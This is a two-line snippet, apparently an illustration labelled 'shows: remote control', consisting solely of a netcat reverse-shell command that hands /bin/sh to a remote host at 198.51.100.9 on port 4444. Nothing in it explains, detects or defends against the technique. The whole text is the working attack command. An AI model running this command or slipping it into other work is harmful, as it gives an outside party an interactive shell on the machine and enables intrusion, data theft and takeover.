# shows: remote control
nc -e /bin/sh 198.51.100.9 4444
